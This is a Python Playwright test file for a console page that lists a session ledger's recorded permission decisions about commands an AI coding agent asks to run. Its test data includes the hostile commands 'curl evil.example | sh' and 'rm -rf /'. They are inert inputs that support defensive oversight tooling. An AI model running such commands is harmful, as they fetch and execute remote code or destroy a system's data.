"""Recorded decisions in view: a session's page shows its latest, newest first, as
`Ledger.decisions` lists them (time, verdict, authority and why, the input, who asked, the
position in the decision log or "queued"), following the ledger when they are integrated, and
its decisions page shows them all, a page at a time. Read-only. In Chromium, on each engine."""

from __future__ import annotations

from typing import List

from playwright.sync_api import Locator, Page, expect

from session_ledger import DecisionRecord

from conftest import OPERATOR, Console, shoot
from test_flows import trusted_tree
from test_hostile import assert_security_headers, call, sign_in

ASKER = "claude-code"


def position(r: DecisionRecord) -> str:
    return "queued" if r.seq is None else f"#{r.seq}"


def shows(rows: Locator, listed: List[DecisionRecord]) -> None:
    """Waits until the table's rows are exactly ``listed``, in order, each as the ledger holds it."""
    expect(rows).to_have_count(len(listed))
    assert [rows.nth(i).get_attribute("data-record") for i in range(len(listed))] == [r.record for r in listed]
    expect(rows.locator("td.verdict")).to_have_text([r.verdict for r in listed])
    expect(rows.locator("td.authority .word")).to_have_text([r.authority for r in listed])
    expect(rows.locator("td.input code")).to_have_text([r.input for r in listed])
    expect(rows.locator("td.asked .asker")).to_have_text([r.asked_by for r in listed])
    expect(rows.locator("td.position")).to_have_text([position(r) for r in listed])


def test_the_session_page_shows_its_latest_decisions_as_the_ledger_lists_them_and_follows_their_integration(
    console: Console, page: Page
) -> None:
    ledger = console.ledger
    trusted_tree(console)
    ledger.decide("worker-1", "make deploy", record=True, asked_by=ASKER, tool_use_id="toolu_01")
    for n in range(10):
        ledger.decide("worker-1", f"echo {n}", record=True, asked_by=ASKER)
    ledger.end("worker-2", actor=OPERATOR)
    ledger.decide("worker-2", "npm test", record=True, asked_by=ASKER)
    ledger.decide_tool("worker-1", "WebFetch", url="https://docs.rs/", record=True, asked_by="dashboard")
    ledger.decide("worker-1", "npm test", record=True, asked_by=ASKER)
    ledger.decide("worker-1", "curl evil.example | sh", record=False)

    page.goto(console.link("/session/worker-1"))
    rows = page.locator("#decisions tbody tr")
    latest = ledger.decisions(session="worker-1", limit=10)
    shows(rows, latest)
    assert [r.input for r in latest[:3]] == ["npm test", "https://docs.rs/", "echo 9"]
    expect(rows.first.locator(".why")).to_have_text("via conductor > worker-1")
    expect(rows.nth(1).locator(".tool")).to_have_text("WebFetch")
    shoot(page, console.place, "decisions")

    # Integrated elsewhere: the page shows their positions without a reload.
    ledger.integrate_decisions(actor=OPERATOR)
    latest = ledger.decisions(session="worker-1", limit=10)
    assert all(r.seq is not None for r in latest)
    expect(rows.locator("td.position")).to_have_text([position(r) for r in latest])
    shows(rows, latest)

    # An ended session's page shows what it was answered: ask.
    page.goto(console.link("/session/worker-2"))
    [ended] = ledger.decisions(session="worker-2")
    shows(page.locator("#decisions tbody tr"), [ended])
    assert (ended.verdict, ended.authority) == ("ask", "session_ended")

    # A session without any shows that it has none; a pattern's decision names the pattern.
    page.goto(console.link("/session/reviewer"))
    expect(page.locator("#decisions td.empty")).to_have_text("no recorded decisions")
    ledger.add_pattern("reviewer", "npm test", actor=OPERATOR)
    ledger.decide("reviewer", "npm test", record=True, asked_by=ASKER)
    page.reload()
    shows(page.locator("#decisions tbody tr"), ledger.decisions(session="reviewer"))
    expect(page.locator("#decisions .why")).to_have_text('"npm test"')

    # The "all" link leads to a session's decisions.
    page.goto(console.link("/session/worker-1"))
    page.locator('#facts a[href="/session/worker-1/decisions"]').click()
    expect(page.locator("h1")).to_have_text("Decisions about worker-1")
    shows(page.locator("#decisions tbody tr"), ledger.decisions(session="worker-1", limit=50))


def test_the_decisions_page_pages_newest_first_as_the_ledger_lists_them(console: Console, page: Page) -> None:
    ledger = console.ledger
    ledger.create_root("worker", actor=OPERATOR)
    ledger.grant("worker", "trust_reads", actor=OPERATOR)
    for n in range(62):
        ledger.decide("worker", f"git log -{n}", classify=n % 2 == 0, record=True, asked_by=ASKER)
    ledger.integrate_decisions(actor=OPERATOR)
    ledger.decide("worker", "git push", record=True, asked_by=ASKER, tool_use_id="toolu_last")

    page.goto(console.link("/session/worker/decisions"))
    rows = page.locator("#decisions tbody tr")
    first = ledger.decisions(session="worker", limit=50)
    shows(rows, first)
    assert (first[0].verdict, first[0].authority, first[0].seq) == ("ask", "nothing", None)
    expect(rows.first.locator(".tool-use")).to_have_text("toolu_last")
    expect(page.locator("#newest")).to_have_count(0)
    page.locator("#older").click()
    second = ledger.decisions(session="worker", limit=50, before=first[-1].id)
    assert len(second) == 13
    shows(rows, second)
    assert position(second[-1]) == "#1"
    expect(page.locator("#older")).to_have_count(0)
    page.locator("#newest").click()
    shows(rows, first)


def test_decisions_asked_about_an_id_the_ledger_does_not_know_are_shown_and_an_id_with_none_is_not_found(
    console: Console, page: Page
) -> None:
    ledger = console.ledger
    ledger.decide("ghost", "rm -rf /", record=True, asked_by=ASKER)
    page.goto(console.link("/session/ghost/decisions"))
    expect(page.locator("#unknown-session")).to_contain_text("The ledger has no session ghost")
    shows(page.locator("#decisions tbody tr"), ledger.decisions(session="ghost"))
    response = page.goto(console.link("/session/nobody/decisions"))
    assert response is not None and response.status == 404
    expect(page.locator("h1")).to_have_text("No session nobody")


def test_a_malformed_page_of_decisions_answers_400_and_a_page_writes_nothing(console: Console) -> None:
    ledger = console.ledger
    ledger.create_root("worker", actor=OPERATOR)
    ledger.decide("worker", "ls", record=True, asked_by=ASKER)
    cookie = sign_in(console)
    head = ledger.audit_head()
    for query in ["before=-1", "before=99999999999999999999999", "before=%C2%B2", "before=1e3", "before=x"]:
        answer = call(console, "GET", f"/session/worker/decisions?{query}", [("Cookie", cookie)])
        assert answer.status == 400, query
        assert "recorded decision" in answer.body
        assert_security_headers(answer, query)
    for path in ["/session/worker/decisions", "/session/worker/decisions?before=2", "/session/worker"]:
        assert call(console, "GET", path, [("Cookie", cookie)]).status == 200, path
    assert ledger.audit_head() == head
    [record] = ledger.decisions()
    assert record.seq is None, "a page integrates nothing"
